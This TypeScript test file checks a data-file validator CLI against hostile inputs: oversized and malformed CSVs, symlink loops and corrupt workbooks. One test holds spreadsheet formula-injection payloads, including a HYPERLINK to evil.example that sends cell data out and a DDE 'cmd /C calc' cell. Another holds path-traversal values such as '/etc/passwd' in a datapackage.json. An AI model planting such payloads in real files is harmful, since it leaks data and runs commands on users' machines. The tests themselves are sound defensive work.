/** Hostile and broken non-XLSX input: huge lines, broken bytes, NUL, vanishing and odd files, formula text,
 *  path traversal in packages, symlink loops, the per-file time limit. All generated here. */
import { afterAll, describe, expect, it, vi } from 'vitest';
import { execFileSync } from 'node:child_process';
import { mkdirSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { codes, observe, runMeasured, tempDir, write } from './support.js';

vi.setConfig({ testTimeout: 60_000 }); // each case is bounded by the CLI's own limits; this is only a safety net

const dir = tempDir();
afterAll(() => rmSync(dir, { recursive: true, force: true }));

const RSS_MB = 512;
const SECONDS = 30;

function check(name: string, args: string[], code: string, exit: number[], env: Record<string, string> = {}, cwd?: string) {
  const m = runMeasured(['validate', ...args, '--format', 'json'], env, cwd);
  observe(name, m);
  expect(exit, m.stderr).toContain(m.code);
  if (code) expect(codes(m)).toContain(code);
  expect(m.stderr).not.toMatch(/\bat .*\.js:\d+/);
  if (!Number.isNaN(m.rssMb)) expect(m.rssMb).toBeLessThan(RSS_MB);
  expect(m.seconds).toBeLessThan(SECONDS);
  return m;
}

const GOOD = 'kode,nama,nilai\n1,Ampenan,10\n2,Mataram,20\n';

describe('hostile files', () => {
  it('a CSV with a 50 MB single line → record-too-long', () => {
    const file = join(dir, 'long-line.csv');
    writeFileSync(file, 'kode,nama\n' + 'x'.repeat(50 * 1024 * 1024) + '\n');
    check('CSV 50 MB single line', [file], 'record-too-long', [1]);
  });

  it('a CSV of 100,000 delimiters on one line → too-many-columns', () => {
    check('CSV 100,000 columns', [write(dir, 'wide.csv', 'a' + ','.repeat(100_000) + '\n1,2\n')], 'too-many-columns', [2]);
  });

  it('invalid UTF-8 sequences → read as Windows-1252, or encoding-error', () => {
    const bytes = Buffer.concat([Buffer.from('kode,nama\n1,'), Buffer.from([0xc3, 0x28, 0xa0, 0xa1, 0xe2, 0x28, 0xa1, 0xf0, 0x90, 0x28, 0xbc]), Buffer.from('\n2,Mataram\n')]);
    const m = check('invalid UTF-8', [write(dir, 'bad-utf8.csv', bytes)], '', [0, 1]);
    expect(codes(m).some((c) => c === 'encoding-error' || c === 'encoding-cp1252')).toBe(true);
  });

  it('invalid UTF-8 after a long valid UTF-8 head → encoding-error', () => {
    const head = 'kode,nama\n' + Array.from({ length: 4000 }, (_, i) => `${i},Kecamatan Ampenan ${i} — ✓\n`).join('');
    const bytes = Buffer.concat([Buffer.from(head), Buffer.from('9999,'), Buffer.from([0xff, 0xfe, 0xc3]), Buffer.from('\n')]);
    check('invalid UTF-8 late in the file', [write(dir, 'bad-utf8-late.csv', bytes)], 'encoding-error', [1]);
  });

  it('NUL bytes at the start → format-error (binary)', () => {
    check('NUL bytes (head)', [write(dir, 'nul.csv', Buffer.concat([Buffer.from('kode,nama\n1,'), Buffer.alloc(64), Buffer.from('\n')]))], 'format-error', [2]);
  });

  it('NUL bytes after the sniffed head → a coded issue, no crash', () => {
    const bytes = Buffer.concat([Buffer.from(GOOD.repeat(4000)), Buffer.from('3,'), Buffer.alloc(16), Buffer.from('x,1\n')]);
    check('NUL bytes (late)', [write(dir, 'nul-late.csv', bytes)], 'encoding-error', [1]);
  });

  it('a file that vanished (dangling symlink) → source-error', () => {
    symlinkSync(join(dir, 'does-not-exist.csv'), join(dir, 'vanished.csv'));
    check('vanished file', [join(dir, 'vanished.csv')], 'source-error', [2]);
  });

  it('a FIFO named .csv → no hang, coded error', () => {
    try {
      execFileSync('mkfifo', [join(dir, 'pipe.csv')]);
    } catch {
      return; // no mkfifo on this system
    }
    check('FIFO', [join(dir, 'pipe.csv')], '', [2]);
  });

  it('a directory named x.csv → source-error (it is a directory)', () => {
    mkdirSync(join(dir, 'folder.csv'));
    check('directory named .csv', [join(dir, 'folder.csv')], 'source-error', [2]);
  });

  it('formula cells (=, +, -, @) → formula-injection warning; exit 1 with --fail-on warning', () => {
    const csv = 'kode,nama,nilai\n1,=HYPERLINK("http://evil.example/?"&A1),10\n2,+cmd|\' /C calc\'!A0,20\n3,-2+3+cmd,30\n4,@SUM(1+1)*cmd,40\n5,-5,-7\n';
    const file = write(dir, 'formula.csv', csv);
    const m = check('formula cells', [file, '--fail-on', 'warning'], 'formula-injection', [1]);
    const issue = m.json!.tables[0]!.issues.find((i) => i.type === 'formula-injection')!;
    expect(issue.message).toMatch(/B2/);
    expect(issue.message).toMatch(/4/); // four such cells; -5 and -7 are numbers
    const plain = runMeasured(['validate', file, '--format', 'json']);
    expect(plain.code).toBe(0);
  });

  it('the per-file time limit → time-limit, and the run moves on to the next file', () => {
    const big = join(dir, 'slow.csv');
    writeFileSync(big, 'kode,nama,nilai,tanggal\n' + Array.from({ length: 1_200_000 }, (_, i) => `${i},Nama ${i},${i}.5,2024-01-0${1 + (i % 9)}`).join('\n') + '\n');
    const next = write(dir, 'after.csv', GOOD);
    // 1 s: well below the big file's own time, and room for the next file's one-time costs (catalog, code index)
    // even on a busy machine
    const m = check('time limit 1 s', [big, next, '--time-limit', '1'], 'time-limit', [2]);
    expect(m.json!.tables).toHaveLength(2);
    expect(m.json!.tables[1]!.issues.map((i) => i.type)).not.toContain('time-limit');
  });

  it('random bytes named .xlsx and a truncated workbook → coded errors', () => {
    check('random bytes .xlsx', [write(dir, 'random.xlsx', Buffer.from(Array.from({ length: 5000 }, (_, i) => (i * 7919) % 251)))], '', [2]);
    check('zip header only .xlsx', [write(dir, 'trunc.xlsx', Buffer.from('PK\x03\x04\x14\x00\x00\x00\x08\x00[Content_Types].xml', 'latin1'))], 'corrupt-file', [2]);
  });
});

describe('hostile repositories', () => {
  it('a symlink loop in repository mode → symlink-loop warning, the walk ends', () => {
    const repo = join(dir, 'loop-repo');
    mkdirSync(join(repo, 'data', 'a'), { recursive: true });
    writeFileSync(join(repo, 'data', 'a', 'x.csv'), GOOD);
    symlinkSync('..', join(repo, 'data', 'a', 'up'));
    symlinkSync(join(repo, 'data'), join(repo, 'data', 'a', 'again'));
    const m = check('symlink loop (repo)', [repo], 'symlink-loop', [0, 1]);
    expect(m.json!.tables.filter((t) => t.path.endsWith('x.csv'))).toHaveLength(1);
  });

  it('path traversal in a datapackage.json → unsafe-path; the outside file is never read', () => {
    const repo = join(dir, 'pkg-repo');
    mkdirSync(join(repo, 'paket'), { recursive: true });
    writeFileSync(join(dir, 'secret.csv'), 'rahasia\n1\n');
    writeFileSync(join(repo, 'paket', 'ok.csv'), GOOD);
    writeFileSync(join(repo, 'paket', 'datapackage.json'), JSON.stringify({
      name: 'p',
      resources: [
        { name: 'ok', path: 'ok.csv' },
        { name: 'evil', path: '../../secret.csv' },
        { name: 'abs', path: '/etc/passwd' },
        { name: 'schema', path: 'ok.csv', schema: '../../../etc/schema.json' },
      ],
    }));
    const m = check('path traversal in package', [repo], 'unsafe-path', [1]);
    expect(m.stdout).not.toContain('rahasia');
    expect(m.json!.tables.map((t) => t.path).some((p) => p.includes('secret'))).toBe(false);
  });

  it('a datapackage.json that is not JSON → package-corrupt', () => {
    const repo = join(dir, 'bad-pkg');
    mkdirSync(repo);
    writeFileSync(join(repo, 'datapackage.json'), '{ "resources": [');
    check('broken datapackage.json', [repo], 'package-corrupt', [2]);
  });

  it('a broken repository config → config-error (exit 2)', () => {
    const repo = join(dir, 'bad-config');
    mkdirSync(repo);
    writeFileSync(join(repo, 'x.csv'), GOOD);
    writeFileSync(join(repo, 'satudata.config.json'), JSON.stringify({ files: [{ glob: '*.csv', standard: 'tidak-ada@9.9.9' }] }));
    const m = runMeasured(['validate', repo]);
    observe('unknown pinned standard in config', m);
    expect(m.code).toBe(2);
    expect(m.stderr).toContain('[config-error]');
    writeFileSync(join(repo, 'satudata.config.json'), '{"filez": []}');
    const m2 = runMeasured(['validate', repo]);
    expect(m2.code).toBe(2);
    expect(m2.stderr).toContain('[config-error]');
  });
});
